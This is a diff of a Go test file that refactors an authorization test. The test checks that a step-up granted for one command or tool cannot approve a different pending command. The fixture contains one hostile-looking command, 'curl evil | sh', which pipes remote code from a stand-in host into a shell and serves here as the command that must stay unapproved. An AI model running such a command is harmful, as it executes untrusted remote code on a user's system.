@@ -140,8 +140,7 @@ func TestStepUpForAnotherCommandCannotApprove(t *testing.T) {
 	evil := f.pendingCommand("evil", "curl evil | sh")
 	f.servers.set(waiting("notes"), waiting("evil"))
 
-	_, r := b.stepUp(a, auth.One(auth.ActionAddServer, notes, ""))
-	mustOK(t, "step-up", r)
+	b.mustStepUp(a, auth.One(auth.ActionAddServer, notes, ""))
 	if r := b.approveCommand(evil); r.Code != http.StatusForbidden {
 		t.Fatalf("a step-up for command %d approved command %d: %d", notes, evil, r.Code)
 	}
@@ -156,8 +155,7 @@ func TestStepUpForAnotherCommandCannotApprove(t *testing.T) {
 	if tool.ID != evil {
 		t.Fatalf("no tool with id %d", evil)
 	}
-	_, r = b.stepUp(a, enableOf(tool))
-	mustOK(t, "tool step-up", r)
+	b.mustStepUp(a, enableOf(tool))
 	if r := b.approveCommand(evil); r.Code != http.StatusForbidden || f.approved("evil") {
 		t.Fatalf("an enable_tool step-up approved a command line: %d", r.Code)
 	}
